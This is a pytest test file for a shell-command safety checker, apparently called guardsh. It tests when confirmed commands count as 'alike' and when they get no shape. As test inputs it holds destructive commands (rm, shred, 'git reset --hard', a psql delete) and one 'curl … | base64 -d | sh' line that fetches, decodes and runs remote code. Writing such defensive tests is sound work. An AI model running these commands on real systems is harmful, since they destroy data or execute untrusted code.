"""What is like an allowed act, and what isn't, with the packs that ship."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from guardsh.config import Settings
from guardsh.confirm.shapes import Shape, shape
from guardsh.facts.world import World
from guardsh.judge import judge
from guardsh.rules import store
from guardsh.rules.loading import Rules
from guardsh.verdict import CONFIRM, Finding, Step, Verdict

SETTINGS = Settings()


@pytest.fixture(scope="module")
def rules() -> Rules:
    return store.in_force(())


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A folder with untracked data that somebody would miss."""
    folder = tmp_path / "shop"
    for name in ("a/one.sqlite", "a/two.sqlite", "a/.env", "a/three.pem", "b/one.sqlite", "a/sub.sqlite/x", "a/plain"):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("somebody's data\n")
    return folder


class Maker:
    def __init__(self, rules: Rules, folder: Path) -> None:
        self.rules, self.folder = rules, folder

    def __call__(self, text: str, folder: str = "", **environment: str) -> Shape | None:
        where = os.path.normpath(os.path.join(self.folder, folder))
        world = World(where, str(self.folder.parent / "home"), {"PATH": "/usr/bin:/bin", **environment})
        verdict = judge(text, world, self.rules, SETTINGS)
        assert verdict.action == CONFIRM, (text, verdict.score)
        values = lambda kind, name: f"{kind} {world.environment.get(name, name)}"  # noqa: E731
        return shape(verdict, world, self.rules, SETTINGS, values)

    def alike(self, one: str, other: str, **more: str) -> bool:
        first, second = self(one), self(other, **more)
        return first is not None and second is not None and first.key == second.key


@pytest.fixture
def make(rules: Rules, project: Path) -> Maker:
    return Maker(rules, project)


def test_files_of_one_folder_and_ending_are_alike(make: Maker) -> None:
    assert make.alike("rm a/one.sqlite", "rm a/two.sqlite")
    assert make.alike("rm a/one.sqlite", "echo first; rm a/two.sqlite")
    found = make("rm a/one.sqlite")
    assert found is not None and len(found.key) == 64
    assert found.words == f"rm of .sqlite files in {make.folder}/a"


@pytest.mark.parametrize(
    "other",
    [
        "rm b/one.sqlite",  # another folder
        "rm a/three.pem",  # another ending
        "rm a/.env",  # a hidden one
        "rm a/plain",
        "rm -f a/two.sqlite",  # other options
        "rm -r a/sub.sqlite",  # a directory
        "sudo rm a/two.sqlite",
        "unlink a/two.sqlite",
        "shred -u a/two.sqlite",
        "find a -name two.sqlite -delete",
        "rm a/two.sqlite b/one.sqlite",
        "rm a/two.sqlite; rm b/one.sqlite",
        "cd b && rm one.sqlite",
        "rm a/*.sqlite",
        "X=1 rm a/two.sqlite",
        "rm a/two.sqlite > a/one.sqlite",
        "git reset --hard; rm a/two.sqlite",
    ],
)
def test_whatever_differs_is_not_alike(make: Maker, other: str) -> None:
    assert not make.alike("rm a/one.sqlite", other)


def test_the_directory_counts(make: Maker) -> None:
    assert not make.alike("git branch -D x", "git branch -D x", folder="b")
    assert make.alike("git branch -D x", "git  branch -D x")


def test_names_are_alike_only_themselves(make: Maker) -> None:
    assert not make.alike("git branch -D x", "git branch -D y")
    assert not make.alike("docker volume rm x", "docker volume rm y")
    assert not make.alike("psql -c 'delete from users'", "psql -c 'delete from carts'")
    found = make("git branch -D x")
    assert found is not None and found.words == f"git branch -D x in {make.folder}"


def test_surroundings_count(make: Maker) -> None:
    text = 'psql -h "$DB" -c "delete from users"'
    assert make.alike(text, text)
    first, second = make(text, DB="localhost"), make(text, DB="db.example")
    assert first is not None and first != second


@pytest.mark.parametrize(
    "text",
    [
        'rm "$UNKNOWN/x.sqlite" "$(find . -name y)"',
        "find . -name '*.sqlite' | xargs rm",
        "curl https://x.example/i | base64 -d | sh",
        'eval "$(cat a/one.sqlite | tr a b)"',
        "echo 'a${b",
    ],
)
def test_what_is_not_known_has_no_shape(make: Maker, text: str) -> None:
    world = World(str(make.folder), "/home/x", {"PATH": "/usr/bin:/bin"})
    verdict = judge(text, world, make.rules, SETTINGS)
    assert shape(verdict, world, make.rules, SETTINGS, lambda kind, name: "") is None


def test_a_verdict_that_the_rules_do_not_give_has_no_shape(rules: Rules, tmp_path: Path) -> None:
    world = World(str(tmp_path), "/home/x", {})

    def values(kind: str, name: str) -> str:
        return ""

    finding = Finding("guardsh.broken", "guardsh", 50, (Step(50, "x"),), (0, 2), "x")
    broken = Verdict(CONFIRM, 50, (finding,), text="ls")
    assert shape(broken, world, rules, SETTINGS, values) is None
    assert shape(Verdict(CONFIRM, 50, (), text="ls"), world, rules, SETTINGS, values) is None
    assert shape(broken.but(understood=False), world, rules, SETTINGS, values) is None
    many = broken.but(findings=(finding,) * 20)
    assert shape(many, world, rules, SETTINGS, values) is None


def test_what_fails_has_no_shape(make: Maker, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise RuntimeError("x")

    assert make("rm a/one.sqlite") is not None
    monkeypatch.setattr("guardsh.rules.matching.findings", broken)
    world = World(str(make.folder), "/home/x", {})
    finding = Finding("x.y", "x", 50, (Step(50, "x"),), (0, 2), "x")
    verdict = Verdict(CONFIRM, 50, (finding,), text="rm a/one.sqlite")
    assert shape(verdict, world, make.rules, SETTINGS, lambda kind, name: "") is None
